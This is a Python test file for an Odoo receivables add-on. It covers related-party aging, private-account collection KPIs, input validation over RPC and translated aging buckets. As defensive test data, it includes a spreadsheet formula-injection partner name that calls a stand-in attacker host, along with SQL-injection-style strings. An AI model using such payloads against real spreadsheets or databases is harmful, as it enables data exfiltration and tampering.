"""What the core's features show in the receivables (split from the core's tests with the add-on, issue #32):
a related party's receivables apart in the aging, its xlsx and the KPIs; what was collected on the owner's
private account in the KPIs; the aging's and the buckets' refusals over JSON-RPC; an industry figure's
computed alert refused when sent; the buckets' labels in the languages loaded."""

import io
from datetime import timedelta

import openpyxl

from odoo import Command
from odoo.tests import TransactionCase, tagged

from odoo.addons.smec_base.tests.common import RpcCase
from odoo.addons.smec_credit.tests.common import SmecCreditCommon


@tagged("post_install", "-at_install")
class TestRelatedPartyReceivables(SmecCreditCommon):
    """Huaxin owes 4,000; Brother-in-law Trading, the owner's brother-in-law, owes 1,000."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.relative = cls.env["res.partner"].create({"name": "Brother-in-law Trading", "is_company": True})
        cls.make_invoice(cls.customer, 4000, cls.today, cls.today + timedelta(days=30))
        cls.make_invoice(cls.relative, 1000, cls.today, cls.today + timedelta(days=30))
        cls.relative.write({"smec_related_type": "family", "smec_related_note": "The owner's brother-in-law"})

    def test_related_receivables_are_shown_apart(self):
        """Receivables 4,000 + 1,000: 1,000 related, 20 %."""
        relative = self.relative
        lines = self.env["smec.credit.aging.line"].with_context(smec_aging_date=self.today)
        related = lines.search([("related_type", "!=", False), ("partner_id", "in", relative.ids)])
        self.assertEqual(sum(related.mapped("open_amount")), 1000.0)
        wizard = self.env["smec.credit.aging.wizard"].create(
            {"as_of": self.today, "partner_ids": [(6, 0, (self.customer | relative).ids)]}
        )
        summary = openpyxl.load_workbook(io.BytesIO(wizard._export_xlsx()), data_only=True)["Summary"]
        rows = {row[0]: row for row in summary.iter_rows(min_row=5, values_only=True)}
        self.assertEqual(rows["Brother-in-law Trading"][-1], "Family")
        self.assertEqual(rows["Total"][-2], 5000)
        self.assertEqual(rows["Of which related parties"][-2], 1000)
        values = self.env["smec.credit.kpi.snapshot"]._kpi_values(
            self.company, self.today.replace(day=1), self.today, "company"
        )[0]
        self.assertEqual((values["closing_related"], values["related_share"]), (1000.0, 20.0))


@tagged("post_install", "-at_install")
class TestPrivatePaymentsKpi(SmecCreditCommon):
    """Huaxin owes 3,000. It pays 1,000 into the company's bank, 800 into the owner's private card, and 500
    into the company's bank from its director's account."""

    def receive(self, amount, journal, payer_account=False):
        payment = self.env["account.payment"].create(
            {
                "payment_type": "inbound",
                "partner_type": "customer",
                "partner_id": self.customer.id,
                "amount": amount,
                "journal_id": journal.id,
                "date": self.today,
                "smec_payer_account": payer_account,
            }
        )
        payment.action_post()
        return payment

    def test_the_kpis_say_how_much_was_collected_privately(self):
        """Collected 1,000 + 800 + 500 = 2,300, of which 800 on the private card: 34.78 %."""
        bank = self.company_data["default_journal_bank"]
        private = bank.copy({"name": "Owner's card", "code": "OWN", "smec_private_account": True})
        self.env["res.partner.bank"].create({"partner_id": self.customer.id, "acc_number": "6222 0000 1111 2222"})
        self.make_invoice(self.customer, 3000, self.today, self.today)
        self.receive(1000, bank)
        self.receive(800, private)
        self.receive(500, bank, "6217 9999 8888 7777")
        values = self.env["smec.credit.kpi.snapshot"]._kpi_values(self.company, self.today, self.today, "company")[0]
        self.assertEqual(
            (values["collected"], values["collected_private"], values["private_share"]), (2300.0, 800.0, 34.78)
        )


@tagged("post_install", "-at_install")
class TestHostileReceivables(SmecCreditCommon, RpcCase):
    """The receivables against the users they restrain, over HTTP."""

    def test_a_partner_name_is_never_a_formula_in_the_xlsx(self):
        name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
        rogue = self.env["res.partner"].create({"name": name, "is_company": True})
        self.make_invoice(rogue, 250, self.days(-40))
        wizard_id = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "create", [{"with_detail": True}])[0]
        action = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "action_export_xlsx", [wizard_id])
        self.authenticate(self.credit_user.login, self.credit_user.login)
        content = self.url_open(action["url"]).content
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            cells = [row[0] for row in sheet.iter_rows(min_row=5) if row[0].value == name]
            self.assertEqual(len(cells), 1, sheet.title)
            self.assertEqual(cells[0].data_type, "s")

    def test_bad_input_gets_a_clear_error_and_changes_nothing(self):
        for context, regex in (
            ({"smec_aging_date": "yesterday"}, "must be a date"),
            ({"smec_aging_date": str(self.days(30))}, "is in the future"),
            ({"smec_aging_partner_ids": "1) OR (1=1"}, "not a list"),
            ({"smec_aging_basis": "'; DROP TABLE x; --"}, "not one it offers"),
        ):
            with self.subTest(context=context):
                self.call_refused(
                    self.credit_user,
                    "UserError",
                    regex,
                    "smec.credit.aging.line",
                    "web_search_read",
                    [],
                    {},
                    context=context,
                )
        admin = self.env.ref("base.user_admin")
        admin.write({"company_ids": [Command.link(self.company.id)], "company_id": self.company.id})
        last = self.company.smec_aging_bucket_ids.filtered("is_last")
        self.call_refused(
            admin,
            "ValidationError",
            "between 0 and 100",
            "res.company",
            "write",
            [self.company.id],
            {"smec_aging_bucket_ids": [Command.update(last.id, {"provision_rate": float("nan")})]},
        )
        last.invalidate_recordset()
        self.assertEqual(last.provision_rate, 100.0)

    def test_industry_figures_over_rpc(self):
        model = "smec.credit.industry.figure"
        vals = {
            "industry_id": self.industry.id,
            "date": "2026-06-30",
            "period": "2026 H1",
            "source": "CBMA",
            "bad_debt_rate": 2,
        }
        self.call_refused(self.credit_user, "AccessError", "not allowed", model, "create", vals)
        # a manager's alert sent by hand is refused: computed from the rate (2 % under 5 %)
        self.call_refused(
            self.credit_manager,
            "UserError",
            "Alert, Alert Reason of a Industry Reference Figure cannot be set",
            model,
            "create",
            {**vals, "alert": True, "alert_reason": "forged"},
        )
        # sent as the code sets it (a form's blank), it is no change
        figure_id = self.call_ok(self.credit_manager, model, "create", {**vals, "alert": False, "alert_reason": False})
        figure = self.env[model].browse(figure_id)
        self.assertEqual((figure.alert, figure.alert_reason), (False, False))


@tagged("post_install", "-at_install")
class TestBucketTranslations(TransactionCase):
    """The default aging buckets are made per company in Python, in English, and get every loaded language's
    label: when a language is loaded later and when a company is created."""

    def load_chinese(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env["ir.module.module"].search([("name", "=", "smec_credit")])._update_translations(["zh_CN"])

    def test_a_language_loaded_later_translates_the_existing_buckets(self):
        company = self.env["res.company"].create({"name": "Made in English"})
        self.env["res.lang"]._activate_lang("zh_CN")
        bucket = company.smec_aging_bucket_ids.filtered(lambda b: not b.is_last and b.days_to == 0)
        self.assertEqual(bucket.with_context(lang="zh_CN").name, "Current", "no Chinese terms yet: the English name")
        self.load_chinese()
        self.assertEqual(bucket.with_context(lang="zh_CN").name, "未到期")
        self.assertEqual(bucket.with_context(lang="en_US").name, "Current")

    def test_a_company_created_in_chinese_gets_both_languages(self):
        self.load_chinese()
        company = self.env["res.company"].with_context(lang="zh_CN").create({"name": "中文公司"})
        last = company.smec_aging_bucket_ids.filtered("is_last")
        self.assertEqual(last.with_context(lang="en_US").name, "Over 180")
        self.assertEqual(last.with_context(lang="zh_CN").name, "超过 180 天")
